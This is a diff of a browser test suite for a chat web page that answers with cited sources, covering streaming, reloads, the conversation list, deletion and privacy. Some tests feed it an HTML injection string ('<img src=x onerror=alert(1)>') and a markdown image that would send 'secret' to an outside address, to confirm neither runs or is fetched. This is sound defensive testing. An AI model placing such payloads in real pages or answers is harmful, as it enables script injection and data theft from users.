@@ -1,18 +1,22 @@
-"""The chat page in a real browser, served by the child process the service starts."""
+"""The chat page in a real browser: what a visitor does and sees."""
 
+import json
+import re
 from collections.abc import Iterator
 from pathlib import Path
 from urllib.parse import urlsplit
 
 import pytest
-from playwright.sync_api import Browser, Page, expect
+from playwright.sync_api import Browser, BrowserContext, Page, expect
 
-from bootstrap.streamlit import ChatPage, StreamlitChild
-from tests.clients.api_stub import ACME_KEY, QUOTE, ApiStub, serve_stub
-from utils.processes import reserve_port
+from clients.streamlit_chat.messages import ICON
+from tests.clients.api_stub import ACME_KEY, QUOTE, ApiStub, Behaviour, problem, serve_stub
+from tests.clients.browser_page import QUESTION, ask, expect_answers, marks, questions, running_page, shelf
+from tests.service import free_port
 
 pytestmark = pytest.mark.browser
-QUESTION = "What does a room cost?"
+PART = "A single room costs"
+AWAY = "The service is away"
 
 
 @pytest.fixture(scope="module")
@@ -22,95 +26,322 @@ def shared_api() -> Iterator[ApiStub]:
         yield stub
 
 
+@pytest.fixture
+def api(shared_api: ApiStub) -> Iterator[ApiStub]:
+    """The stub as it is at first; what was held goes on afterwards."""
+    shared_api.behaviour = Behaviour()
+    shared_api.asked.clear()
+    shared_api.conversations.clear()
+    shared_api.left.clear()
+    yield shared_api
+    shared_api.behaviour.go_on.set()
+
+
 @pytest.fixture(scope="module")
 def url(shared_api: ApiStub, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
     """The address of the running page."""
-    with reserve_port("127.0.0.1", 0, variable="STREAMLIT_PORT") as listener:
-        port = int(listener.getsockname()[1])
-    page = ChatPage(host="127.0.0.1", port=port, api_url=shared_api.url, api_key=ACME_KEY)
-    child = StreamlitChild(page, tmp_path_factory.mktemp("data"))
-    child.start()
-    child.wait_ready()
-    yield child.url
-    child.stop()
+    with running_page(tmp_path_factory.mktemp("data"), shared_api.url, logo=str(ICON)) as address:
+        yield address
 
 
 @pytest.fixture
-def tab(chromium: Browser) -> Iterator[Page]:
-    """A new tab of a new visitor; what it asks of other machines fails the test."""
+def visitor(chromium: Browser) -> Iterator[BrowserContext]:
+    """A new visitor's browser; what it asks of other machines, and what goes wrong in its scripts, fails the test."""
     context = chromium.new_context()
-    page = context.new_page()
     asked: list[str] = []
-    page.on("request", lambda request: asked.append(request.url))
-    yield page
+    wrong: list[str] = []
+    context.on("request", lambda request: asked.append(request.url))
+    context.on("weberror", lambda error: wrong.append(str(error.error)))
+    yield context
     context.close()
     elsewhere = [address for address in asked if urlsplit(address).hostname not in ("localhost", "127.0.0.1", None)]
     assert elsewhere == []
+    assert wrong == []
     assert not any(ACME_KEY in address for address in asked)
 
 
-def ask(tab: Page, question: str = QUESTION) -> None:
-    box = tab.get_by_placeholder("Ask a question")
-    box.fill(question)
-    box.press("Enter")
+@pytest.fixture
+def tab(visitor: BrowserContext) -> Page:
+    """The visitor's tab."""
+    return visitor.new_page()
 
 
-def test_a_visitor_gets_an_answer_with_sources_and_finds_both_again(tab: Page, url: str) -> None:
+def test_a_mark_opens_its_source_with_the_mouse_and_with_the_keyboard(tab: Page, url: str, api: ApiStub) -> None:
     tab.goto(url)
+    expect(tab.get_by_role("heading", name="Arsip")).to_be_visible()
+    expect(tab.get_by_text("Ask what you would like to know.")).to_be_visible()
+    expect(tab.get_by_test_id("stSidebarLogo")).to_be_visible()
     ask(tab)
     for _ in ("at once", "after a reload"):
-        expect(tab.get_by_text(QUESTION)).to_be_visible()
-        expect(tab.get_by_text(f"{QUOTE} [1]")).to_be_visible()
-        source = tab.get_by_text("[1] Student dormitory › Rooms and rent")
-        source.click()
+        expect_answers(tab)
+        expect(tab.get_by_text(QUOTE).first).to_be_visible()
+        expect(tab.get_by_text("samples/student-dormitory.md")).to_be_hidden()
+        marks(tab).click()
         expect(tab.get_by_text("samples/student-dormitory.md")).to_be_visible()
-        tab.get_by_text("[2] Tuition, fees & payment › Deadlines, page 3").click()
+        expect(tab.locator("summary:focus")).to_contain_text("[1] Student dormitory › Rooms and rent")
+        marks(tab, 2).focus()
+        tab.keyboard.press("Enter")
+        expect(tab.locator("summary:focus")).to_contain_text("[2] Tuition, fees & payment › Deadlines, page 3")
         link = tab.get_by_role("link", name="Open the document")
         expect(link).to_have_attribute("href", "https://example.org/fees.pdf")
+        marks(tab).click()  # an open one stays open
+        expect(tab.get_by_text("samples/student-dormitory.md")).to_be_visible()
         tab.reload()
 
 
-def test_an_answer_is_read_while_it_comes_and_can_be_stopped(tab: Page, url: str, shared_api: ApiStub) -> None:
-    shared_api.behaviour.held = True
-    asked_before = len(shared_api.asked)
-    try:
-        tab.goto(url)
-        ask(tab)
-        expect(tab.get_by_text("A single room costs")).to_be_visible()
-        tab.get_by_test_id("stChatInputStopButton").click()
-        assert shared_api.left.wait(10)
-    finally:
-        shared_api.behaviour.held = False
+def test_each_answers_marks_open_its_own_sources_which_stay_open(tab: Page, url: str, api: ApiStub) -> None:
+    tab.goto(url)
+    ask(tab)
+    expect_answers(tab)
+    marks(tab).click()
+    expect(tab.locator("details[open]")).to_have_count(1)
     ask(tab, "And when is it due?")
-    expect(tab.get_by_text(f"{QUOTE} [1]")).to_be_visible()
-    assert [question for _, _, question in shared_api.asked[asked_before:]] == [QUESTION, "And when is it due?"]
+    expect_answers(tab, 2)
+    expect(tab.locator("details").first).to_have_attribute("open", "")
+    marks(tab).last.click()
+    expect(tab.locator("details[open]")).to_have_count(2)
+    expect(tab.locator("details").nth(2)).to_have_attribute("open", "")
 
 
-def test_a_new_chat_leaves_the_old_one_in_the_browsers_history(tab: Page, url: str) -> None:
+def test_an_answer_is_read_while_it_comes_and_stays_when_stopped(tab: Page, url: str, api: ApiStub) -> None:
+    api.behaviour.held = True
+    tab.goto(url)
+    ask(tab)
+    expect(tab.get_by_text(f"{PART} ▌")).to_be_visible()
+    tab.get_by_test_id("stChatInputStopButton").click()
+    expect(tab.get_by_text("Stopped before its end")).to_be_visible()
+    expect(tab.get_by_text(PART, exact=True)).to_be_visible()
+    assert api.left.wait(10)
+    api.behaviour.held = False
+    ask(tab, "And when is it due?")
+    expect_answers(tab)
+    expect(tab.get_by_text("Stopped before its end")).to_be_visible()
+    api.behaviour.held = True
+    ask(tab, "Again?")
+    expect(tab.get_by_text(f"{PART} ▌")).to_be_visible()
+    tab.get_by_test_id("stChatInputStopButton").click()
+    again = tab.get_by_role("button", name="Answer again")
+    expect(again).to_be_visible()
+    api.behaviour.held = False
+    again.click()
+    expect_answers(tab, 2)
+    expect(questions(tab)).to_have_text([QUESTION, "And when is it due?", "Again?"])
+    assert [question for _, _, question in api.asked] == [QUESTION, "And when is it due?", "Again?", "Again?"]
+
+
+def test_a_reload_in_mid_answer_does_not_lose_it(visitor: BrowserContext, tab: Page, url: str, api: ApiStub) -> None:
+    """Streamlit stops the script when its browser leaves; the page reads the answer to its end all the same."""
+    api.behaviour.held = True
+    tab.goto(url)
+    ask(tab)
+    expect(tab.get_by_text(PART)).to_be_visible()
+    tab.reload()
+    expect(tab.get_by_text("Still writing")).to_be_visible()
+    second = visitor.new_page()
+    second.goto(tab.url)
+    expect(second.get_by_text("Still writing")).to_be_visible()
+    api.behaviour.go_on.set()
+    expect_answers(tab)
+    expect_answers(second)
+    assert not api.left.is_set()
+    assert len(api.asked) == 1
+
+
+def test_a_reload_after_an_answer_that_was_lost_offers_it_again(tab: Page, url: str, api: ApiStub) -> None:
+    api.behaviour.cut = True
+    tab.goto(url)
+    ask(tab)
+    expect(tab.get_by_text("broke off").first).to_be_visible()
+    tab.reload()
+    api.behaviour.cut = False
+    tab.get_by_role("button", name="Answer again").click()
+    expect_answers(tab)
+
+
+def test_past_conversations_are_listed_opened_and_kept(
+    visitor: BrowserContext, tab: Page, url: str, api: ApiStub
+) -> None:
+    tab.goto(url)
+    expect(tab.get_by_text("None yet.")).to_be_visible()
+    ask(tab, "first")
+    expect_answers(tab)
+    first = tab.url
+    tab.get_by_role("button", name="New chat").click()
+    expect_answers(tab, 0)
+    ask(tab, "second")
+    expect_answers(tab)
+    expect(shelf(tab)).to_have_text(["second", "first"])
+    expect(shelf(tab).first).to_have_attribute("aria-current", "page")
+    second = visitor.new_page()
+    second.goto(url)
+    expect(shelf(second)).to_have_text(["second", "first"])
+    shelf(second).last.click()
+    expect(second).to_have_url(first)
+    expect(questions(second)).to_have_text(["first"])
+    ask(second, "more of the first")
+    expect_answers(second, 2)
+    expect(shelf(second)).to_have_text(["first", "second"])
+    expect(shelf(tab)).to_have_text(["first", "second"])  # without a click there
+    tab.reload()
+    expect(shelf(tab)).to_have_text(["first", "second"])
+    expect_answers(tab, 1)
+    second.go_back()
+    expect(second).to_have_url(url + "/")
+
+
+def test_two_visitors_do_not_see_each_others_conversations(
+    chromium: Browser, tab: Page, url: str, api: ApiStub
+) -> None:
+    tab.goto(url)
+    ask(tab, "of mine")
+    expect(shelf(tab)).to_have_text(["of mine"])
+    other = chromium.new_context()
+    try:
+        theirs = other.new_page()
+        theirs.goto(url)
+        expect(theirs.get_by_text("None yet.")).to_be_visible()
+        ask(theirs, "of theirs")
+        expect(shelf(theirs)).to_have_text(["of theirs"])
+        tab.reload()
+        expect(shelf(tab)).to_have_text(["of mine"])
+    finally:
+        other.close()
+
+
+def test_a_conversation_is_deleted_after_asking(visitor: BrowserContext, tab: Page, url: str, api: ApiStub) -> None:
     tab.goto(url)
     ask(tab, "first")
-    expect(tab.get_by_text(f"{QUOTE} [1]")).to_be_visible()
-    old = tab.url
+    expect_answers(tab)
+    second = visitor.new_page()
+    second.goto(tab.url)
+    expect_answers(second)
+    delete = tab.get_by_role("button", name="Delete “first”")
+    delete.click()
+    dialog = tab.get_by_role("dialog")
+    expect(dialog).to_contain_text("first")
+    dialog.get_by_role("button", name="Keep it").click()
+    expect(dialog).to_have_count(0)
+    assert api.conversations
+    delete.click()
+    api.behaviour.deleting_problem = problem(409, "Something else is in the way", "It is being answered.")
+    dialog.get_by_role("button", name="Delete for good").click()
+    expect(dialog).to_contain_text("It is being answered.")
+    api.behaviour.deleting_problem = None
+    dialog.get_by_role("button", name="Delete for good").click()
+    expect(tab.get_by_text("None yet.")).to_be_visible()
+    expect(tab).to_have_url(url + "/")
+    assert not api.conversations
+    expect(second.get_by_text("None yet.")).to_be_visible()
+    second.reload()
+    expect(second.get_by_text("expired or does not exist")).to_be_visible()
+    expect(second.get_by_text("None yet.")).to_be_visible()
+
+
+def test_an_expired_conversation_leaves_the_list_with_a_word(tab: Page, url: str, api: ApiStub) -> None:
+    tab.goto(url)
+    ask(tab, "first")
+    expect_answers(tab)
     tab.get_by_role("button", name="New chat").click()
-    expect(tab.get_by_text(f"{QUOTE} [1]")).to_have_count(0)
+    expect_answers(tab, 0)
+    api.conversations.clear()
+    shelf(tab).click()
+    expect(tab.get_by_text("expired or does not exist")).to_be_visible()
+    expect(shelf(tab)).to_have_count(0)
     ask(tab, "second")
-    expect(tab.get_by_text(f"{QUOTE} [1]")).to_be_visible()
-    assert tab.url != old
-    tab.goto(old)
-    expect(tab.get_by_text("first", exact=True)).to_be_visible()
-    expect(tab.get_by_text("second", exact=True)).to_have_count(0)
+    expect_answers(tab)
+    expect(shelf(tab)).to_have_text(["second"])
 
 
-def test_an_image_in_an_answer_is_not_fetched(tab: Page, url: str, shared_api: ApiStub) -> None:
-    """The tab's fixture sees every request."""
-    usual, shared_api.behaviour.answer = shared_api.behaviour.answer, "Look: ![x](http://192.0.2.1/?q=secret) [1]"
-    try:
+def test_the_page_works_where_the_browser_stores_nothing(tab: Page, url: str, api: ApiStub) -> None:
+    tab.add_init_script(
+        "Object.defineProperty(window, 'localStorage', {get() { throw new DOMException('no', 'SecurityError') }})"
+    )
+    tab.goto(url)
+    expect(tab.get_by_text("This browser keeps no list")).to_be_visible()
+    ask(tab)
+    expect_answers(tab)
+    tab.reload()
+    expect_answers(tab)
+
+
+def test_nonsense_in_the_browsers_storage_is_passed_over(tab: Page, url: str, api: ApiStub) -> None:
+    kept = json.dumps([{"id": "../x", "title": "x"}, 1, None])
+    tab.add_init_script(f"localStorage.setItem('pustaka.conversations/', {json.dumps(kept)})")
+    tab.goto(url)
+    expect(tab.get_by_text("None yet.")).to_be_visible()
+
+
+def test_the_list_holds_fifty_and_shows_what_was_asked_as_it_is(tab: Page, url: str, api: ApiStub) -> None:
+    entries = [{"id": f"web-{number:022d}", "title": "old", "turns": 1, "used": number} for number in range(50)]
+    tab.add_init_script(
+        f"localStorage.getItem('pustaka.conversations/') ?? "
+        f"localStorage.setItem('pustaka.conversations/', {json.dumps(json.dumps(entries))})"
+    )
+    tab.goto(url)
+    expect(shelf(tab)).to_have_count(50)
+    ask(tab, "<img src=x onerror=alert(1)> *bold* " + "long " * 30)
+    expect(shelf(tab).first).to_have_text(re.compile(r"^<img src=x onerror=alert\(1\)> \*bold\* long .*…$"))
+    expect(shelf(tab)).to_have_count(50)
+
+
+def test_a_question_waits_for_a_service_that_is_away(visitor: BrowserContext, tmp_path: Path) -> None:
+    """At load, when asking, in mid-answer, and at load again."""
+    port = free_port()
+    tab = visitor.new_page()
+    with running_page(tmp_path, f"http://127.0.0.1:{port}") as url:
         tab.goto(url)
+        expect(tab.get_by_text(AWAY)).to_be_visible()
         ask(tab)
-        expect(tab.get_by_text("Look:")).to_be_visible()
-        expect(tab.get_by_text("Sources", exact=True)).to_be_visible()
-    finally:
-        shared_api.behaviour.answer = usual
+        expect(tab.get_by_text(QUESTION)).to_be_visible()
+        expect(tab.get_by_text(AWAY)).to_be_visible()
+        tab.get_by_placeholder("Ask a question").fill("half typed")
+        with serve_stub(port) as api:
+            expect_answers(tab)
+            expect(tab.get_by_text(AWAY)).to_have_count(0)
+            expect(tab.get_by_placeholder("Ask a question")).to_have_value("half typed")
+            api.behaviour.held = True
+            ask(tab, "And when?")
+            expect(tab.get_by_text(f"{PART} ▌")).to_be_visible()
+            api.behaviour.cut = True
+            api.behaviour.go_on.set()
+            expect(tab.get_by_text("broke off").first).to_be_visible()
+            kept = api.conversations
+        tab.get_by_role("button", name="Try again").click()
+        expect(tab.get_by_text(AWAY)).to_be_visible()
+        tab.reload()
+        expect(tab.get_by_text(AWAY)).to_be_visible()
+        with serve_stub(port) as api:
+            api.conversations.update(kept)
+            tab.get_by_role("button", name="Try again").click()
+            tab.get_by_role("button", name="Answer again").click()
+            expect_answers(tab, 2)
+    assert all(ACME_KEY not in log.read_text() for log in tmp_path.glob("*.log"))
+
+
+def test_a_small_screen_shows_everything_without_scrolling_sideways(tab: Page, url: str, api: ApiStub) -> None:
+    api.behaviour.answer = (
+        f"{'x' * 300} [1]\n\n| {' | '.join(['wide'] * 30)} |\n|{'---|' * 30}\n\n```\n{'y' * 300}\n```\n"
+    )
+    tab.set_viewport_size({"width": 360, "height": 640})
+    tab.goto(url)
+    ask(tab, "w" * 300)
+    expect_answers(tab)
+    for area in ("html", ".stMain"):
+        assert tab.locator(area).evaluate("area => area.scrollWidth <= area.clientWidth")
+    marks(tab).click()
+    expect(tab.get_by_text("samples/student-dormitory.md")).to_be_in_viewport()
+    tab.get_by_test_id("stExpandSidebarButton").click()
+    shelf(tab).click()  # leads to where the visitor is, and out of the way
+    expect(tab.get_by_test_id("stSidebar")).to_have_attribute("data-collapsed", "true")
+
+
+def test_an_image_in_an_answer_is_not_fetched(tab: Page, url: str, api: ApiStub) -> None:
+    """The visitor's fixture sees every request."""
+    api.behaviour.answer = "Look: ![x](http://192.0.2.1/?q=secret) [1]"
+    tab.goto(url)
+    ask(tab)
+    expect_answers(tab)
+    expect(tab.get_by_text("Look:")).to_be_visible()
 
 
 def test_what_the_service_wrote_down_of_the_page_holds_no_key(url: str, tmp_path: Path) -> None:
